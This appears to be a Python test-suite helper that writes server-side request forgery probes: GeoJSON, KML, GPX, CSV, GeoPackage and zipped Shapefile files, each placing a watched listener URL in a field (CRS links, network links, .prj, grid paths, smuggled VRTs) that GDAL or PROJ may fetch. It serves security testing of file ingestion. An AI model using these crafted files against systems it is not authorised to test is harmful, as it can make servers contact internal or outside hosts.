#!/usr/bin/env python3
"""ssrf_tricks.py DIR URL: one file per trick, each naming URL (a listener
the caller watches) in a field GDAL or PROJ might open while reading it.
Prints "FILE COLLECTION FORMAT" per line. Used by ssrf.sh (issue 17 item 5)."""
import os, sqlite3, subprocess, sys, zipfile

d, U = sys.argv[1], sys.argv[2]
os.makedirs(d, exist_ok=True)
V = "/vsicurl/" + U
out = []
def path(name): return os.path.join(d, name)
def add(name, coll="incidents", fmt=None):
    out.append("%s %s %s" % (name, coll, fmt or name.rsplit(".", 1)[1]))

PT = '{"type":"Point","coordinates":[35.1,32.1]}'
def geojson(name, crs=None, geom=PT, props='{"title":"t"}', listed=True):
    top = ('"crs":%s,' % crs) if crs else ""
    with open(path(name), "w") as f:
        f.write('{"type":"FeatureCollection",%s"features":[{"type":"Feature","geometry":%s,'
                '"properties":%s}]}' % (top, geom, props))
    if listed: add(name)

geojson("plain.geojson", listed=False)
# GeoJSON "crs" of type link or url: GDAL 3.6 fetches it (10 s timeout)
geojson("crs-link.geojson", '{"type":"link","properties":{"href":"%scrs","type":"ogcwkt"}}' % U)
geojson("crs-url.geojson", '{"type":"url","properties":{"url":"%scrs"}}' % U)
geojson("crs-upper-case.geojson", '{"TYPE":"URL","Properties":{"HREF":"%scrs"}}' % U)
geojson("crs-linked.geojson", '{"type":"linked","properties":{"href":"%scrs"}}' % U)
geojson("crs-escaped.geojson", '{"t\\u0079pe":"\\u006cink","properties":{"href":"%scrs"}}' % U)
geojson("crs-on-geometry.geojson", None,
        '{"type":"Point","coordinates":[35.1,32.1],"crs":{"type":"link","properties":{"href":"%scrs"}}}' % U)
geojson("crs-link-opengis.geojson",
        '{"type":"link","properties":{"href":"http://www.opengis.net/def/crs/EPSG/0/32636"}}')
# ... of type name or OGC, given a URL or a /vsicurl/ path
geojson("crs-name-url.geojson", '{"type":"name","properties":{"name":"%scrs"}}' % U)
geojson("crs-name-vsicurl.geojson", '{"type":"name","properties":{"name":"%scrs"}}' % V)
geojson("crs-ogc-url.geojson", '{"type":"OGC","properties":{"urn":"%scrs"}}' % U)
geojson("property-vsicurl.geojson", None, PT, '{"title":"%s","href":"%s"}' % (V, U))

# KML: NetworkLink, styleUrl, by URL and by /vsicurl/; a KMZ of network links
KML = ('<?xml version="1.0"?><kml xmlns="http://www.opengis.net/kml/2.2"><Document>%s<Placemark>'
       '<name>p</name>%s<Point><coordinates>35.1,32.1</coordinates></Point></Placemark></Document></kml>')
def netlink(href): return '<NetworkLink><name>n</name><Link><href>%s</href></Link></NetworkLink>' % href
for name, doc in (("networklink.kml", KML % (netlink(U + "x.kml"), "")),
                  ("networklink-vsicurl.kml", KML % (netlink(V + "x.kml"), "")),
                  ("styleurl.kml", KML % ("", "<styleUrl>%ss.kml#a</styleUrl>" % U)),
                  ("styleurl-vsicurl.kml", KML % ("", "<styleUrl>%ss.kml#a</styleUrl>" % V))):
    open(path(name), "w").write(doc)
    add(name)
with zipfile.ZipFile(path("networklink.kmz"), "w") as z:
    z.writestr("doc.kml", KML % (netlink(V + "x.kml") + netlink(U + "y.kml"), ""))
add("networklink.kmz")

# GPX links
open(path("link.gpx"), "w").write(
    '<?xml version="1.0"?><gpx version="1.1" creator="t" xmlns="http://www.topografix.com/GPX/1/1">'
    '<metadata><link href="%s"/></metadata><wpt lat="32.1" lon="35.1"><name>w</name>'
    '<link href="%s"><text>x</text></link></wpt></gpx>' % (U, V))
add("link.gpx")

# CSV: a WKT that is a URL, one that is a /vsicurl/ path
open(path("wkt-url.csv"), "w").write('title,wkt\na,"POINT (35.1 32.1)"\nb,%s\n' % U)
open(path("wkt-vsicurl.csv"), "w").write('title,wkt\na,%s\n' % V)
add("wkt-url.csv")
add("wkt-vsicurl.csv")

# GeoPackages: the layer's SRS defined by a URL, a /vsicurl/ path, an
# organisation that is a URL; data columns and a related table pointing out
def gpkg(name, definition=None, org="NONE", code=99999):
    p = path(name)
    if os.path.exists(p): os.remove(p)
    subprocess.run(["ogr2ogr", "-f", "GPKG", p, path("plain.geojson"), "-nln", "pts"], check=True)
    c = sqlite3.connect(p)
    if definition is not None:
        c.execute("INSERT INTO gpkg_spatial_ref_sys VALUES ('evil',99999,?,?,?,NULL)", (org, code, definition))
        c.execute("UPDATE gpkg_geometry_columns SET srs_id=99999")
        c.execute("UPDATE gpkg_contents SET srs_id=99999")
    add(name)
    return c
for name, args in (("srs-url.gpkg", (U + "crs",)), ("srs-vsicurl.gpkg", (V + "crs",)),
                   ("srs-organisation-url.gpkg", ("undefined", U + "EPSG", 4326))):
    c = gpkg(name, *args)
    c.commit()
    c.close()
c = gpkg("columns-relations.gpkg")
c.execute("CREATE TABLE IF NOT EXISTS gpkg_data_columns (table_name TEXT NOT NULL, column_name TEXT NOT NULL,"
          " name TEXT, title TEXT, description TEXT, mime_type TEXT, constraint_name TEXT)")
c.execute("INSERT INTO gpkg_data_columns VALUES ('pts','title',?,?,?,'text/html',?)", (V, U, U, V))
c.execute("CREATE TABLE IF NOT EXISTS gpkg_extensions (table_name TEXT, column_name TEXT,"
          " extension_name TEXT NOT NULL, definition TEXT NOT NULL, scope TEXT NOT NULL)")
c.execute("INSERT INTO gpkg_extensions VALUES ('gpkgext_relations',NULL,'gpkg_related_tables',?,'read-write')", (U,))
c.execute("CREATE TABLE gpkgext_relations (id INTEGER PRIMARY KEY AUTOINCREMENT, base_table_name TEXT NOT NULL,"
          " base_primary_column TEXT NOT NULL DEFAULT 'id', related_table_name TEXT NOT NULL,"
          " related_primary_column TEXT NOT NULL DEFAULT 'id', relation_name TEXT NOT NULL,"
          " mapping_table_name TEXT NOT NULL UNIQUE)")
c.execute("INSERT INTO gpkgext_relations VALUES (1,'pts','fid',?,'id','media',?)", (V + "t", V + "m"))
c.commit()
c.close()

# zipped Shapefiles: a .prj that is a URL, a /vsicurl/ path, a WKT whose
# PROJ4 extension takes a grid by URL; a VRT smuggled in as the .shp, and
# VRTs beside it
sh = path("shp")
os.makedirs(sh, exist_ok=True)
subprocess.run(["ogr2ogr", "-f", "ESRI Shapefile", os.path.join(sh, "z.shp"), path("plain.geojson")], check=True)
def shpzip(name, prj=None, extra=None, shp_bytes=None):
    with zipfile.ZipFile(path(name), "w") as z:
        for ext in ("shp", "shx", "dbf"):
            data = open(os.path.join(sh, "z." + ext), "rb").read()
            z.writestr("z." + ext, shp_bytes if ext == "shp" and shp_bytes else data)
        if prj is not None: z.writestr("z.prj", prj)
        for k, v in (extra or {}).items(): z.writestr(k, v)
    add(name, fmt="shp")
shpzip("prj-url.zip", U + "crs")
shpzip("prj-vsicurl.zip", V + "crs")
shpzip("prj-grid-url.zip",
       'GEOGCS["g",DATUM["d",SPHEROID["WGS 84",6378137,298.257223563]],PRIMEM["Greenwich",0],'
       'UNIT["degree",0.0174532925199433],EXTENSION["PROJ4","+proj=longlat +ellps=WGS84 '
       '+nadgrids=%sgrid.tif +wktext +no_defs"]]' % U)
VRT = ('<OGRVRTDataSource><OGRVRTLayer name="z"><SrcDataSource>%sx.geojson</SrcDataSource>'
       '</OGRVRTLayer></OGRVRTDataSource>' % V)
shpzip("vrt-as-shp.zip", shp_bytes=VRT.encode())
shpzip("vrt-beside.zip", extra={"x.vrt": VRT, "y.shp.vrt": VRT})
print("\n".join(out))
